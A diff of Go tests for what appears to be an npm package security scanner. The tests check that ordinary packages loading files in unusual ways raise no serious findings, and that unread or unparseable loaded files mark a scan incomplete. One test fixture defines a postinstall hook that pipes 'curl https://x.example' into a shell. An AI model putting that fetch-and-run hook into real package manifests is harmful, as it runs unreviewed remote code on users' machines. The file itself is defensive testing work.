@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"github.com/lockwarden/lockwarden/analyzer"
+	"github.com/lockwarden/lockwarden/analyzer/archive"
 	"github.com/lockwarden/lockwarden/analyzer/issue"
 	"github.com/lockwarden/lockwarden/analyzer/worker"
 )
@@ -167,6 +168,86 @@ func TestLoaded(t *testing.T) {
 					said = append(said, i.Severity.String()+" "+i.ID)
 				}
 				t.Errorf("%v, complete %v, blind %v", said, report.Complete, scanned.Contents.Blind)
+			}
+		})
+	}
+}
+
+// harmless look like loadings and are ordinary: they stay quiet and complete.
+var harmless = map[string][]string{
+	"a style that a bundler loads":       {"index.js", "require('./a.css'); require('./b.scss'); require('./page.html'); require('./x.svg')", "a.css", "a{color:red}\n@import url(b.css);\n", "b.scss", "$a: 1;\n@function f($x) { @return $x; }\n", "page.html", "<p>function process(</p>", "x.svg", "<svg/>"},
+	"a large style that is not kept":     {"index.js", "require('./a.css')", "a.css", strings.Repeat("a{color:red;background:url(data:image/png;base64,AAAA)}\n", 9000)},
+	"data that is text":                  {"index.js", "try{require('./data.txt')}catch(e){}", "data.txt", "a b c\n"},
+	"a loader of plug-ins":               {"index.js", "module.exports=(n)=>require(n); exports.x=(n)=>require('./p/'+n)", "p/a.js", "module.exports=1", "p/b.json", "{}", "test/x.js", "require('https').get('https://service.example/')"},
+	"a template engine":                  {"index.js", "const fs=require('fs');module.exports=(f,d)=>new Function('d',compile(fs.readFileSync(f,'utf8')))(d);function compile(s){return 'return '+JSON.stringify(s)};exports.t=fs.readFileSync(__dirname+'/t.txt','utf8')", "t.txt", "Hello <%= name %>"},
+	"a worker of its own":                {"index.js", "const{Worker}=require('worker_threads');module.exports=()=>new Worker(__dirname+'/w.js')", "w.js", "require('worker_threads').parentPort.postMessage(1)"},
+	"a program of the user's":            {"index.js", "const{spawn}=require('child_process');module.exports=(f)=>spawn(process.execPath,[f],{stdio:'inherit'})"},
+	"a bundled dependency":               {"package.json", `"bundleDependencies": ["left"]`, "index.js", "module.exports=require('left')", "node_modules/left/package.json", `{"name": "left", "version": "1.0.0", "scripts": {"test": "node t"}}`, "node_modules/left/index.js", "module.exports=1"},
+	"a fixture that looks like one":      {"test/node_modules/x/package.json", `{"name": "x", "scripts": {"postinstall": "curl https://x.example | sh"}}`, "index.js", "module.exports=1"},
+	"sources for a compiler":             {"index.js", "module.exports=require('./dist/x')", "dist/x.js", "module.exports=1", "src/x.ts", "export default 1 as number", "src/x.d.ts", "export default 1"},
+	"an extension for tests":             {"index.js", "for (const e of ['.ts','.tsx']) require.extensions[e]=require.extensions['.js']", "a.ts", "export const a: number = 1"},
+	"a command line's own scripts":       {"package.json", `"bin": {"case": "cli"}, "scripts": {"test": "node test"}`, "cli", "#!/usr/bin/env node\nrequire('./index.js')", "index.js", "module.exports=1"},
+	"a shrinkwrap of the registry":       {"npm-shrinkwrap.json", `{"name": "case", "lockfileVersion": 3, "packages": {"node_modules/q": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/q/-/q-1.0.0.tgz", "integrity": "sha512-AAAA"}}}`, "index.js", "module.exports=1"},
+	"a picture that is one":              {"index.js", "try{require('./logo.png')}catch(e){}", "logo.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"},
+	"a script whose name is no script's": {"index.js", "require('./bin/tool')", "bin/tool", "module.exports=1"},
+}
+
+// TestLoadedQuiet: ordinary packages load files in odd ways as well.
+func TestLoadedQuiet(t *testing.T) {
+	s := open(t, worker.Limits{Step: 60 * time.Second})
+	for name, list := range harmless {
+		t.Run(name, func(t *testing.T) {
+			scanned, err := s.ScanTarball(context.Background(), tarball(t, loadingFiles(list)...))
+			if err != nil {
+				t.Fatal(err)
+			}
+			report := analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
+			if !report.Complete {
+				t.Errorf("incomplete: %v", scanned.Contents.Incomplete)
+			}
+			for _, i := range report.Issues {
+				if i.Severity <= issue.Medium {
+					t.Errorf("%v %s: %v", i.Severity, i.ID, i.Detail)
+				}
+			}
+		})
+	}
+}
+
+// TestLoadedNotRead: what is loaded and was not read makes the scan incomplete,
+// and so does what looks like code and does not parse.
+func TestLoadedNotRead(t *testing.T) {
+	engine, err := analyzer.NewEngine()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, test := range map[string]struct {
+		file, text string
+		limits     archive.Limits
+		want       string
+	}{
+		"not kept":      {"a.txt", inert, archive.Limits{Keep: func(name string, _ []byte) bool { return name != "a.txt" }}, "its content was not kept"},
+		"over a budget": {"a.txt", inert, archive.Limits{FileKept: 100}, "larger than 100 bytes"},
+		"not parsed":    {"a.txt", inert + "))", archive.Limits{}, "it does not parse"},
+		"too deep":      {"a.txt", "require(" + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + ")", archive.Limits{}, "nests deeper"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			body, err := tarball(t, loadingFiles([]string{"index.js", "require('./" + test.file + "')", test.file, test.text})...)()
+			if err != nil {
+				t.Fatal(err)
+			}
+			pkg, err := archive.Read(body, test.limits)
+			if err != nil {
+				t.Fatal(err)
+			}
+			contents, err := engine.Contents(pkg, false, nil, func(string) {})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !slices.ContainsFunc(contents.Incomplete, func(p issue.Problem) bool {
+				return p.File == "index.js" && p.Line == 1 && strings.Contains(p.Reason, test.file) && strings.Contains(p.Reason, test.want)
+			}) {
+				t.Errorf("%v", contents.Incomplete)
 			}
 		})
 	}
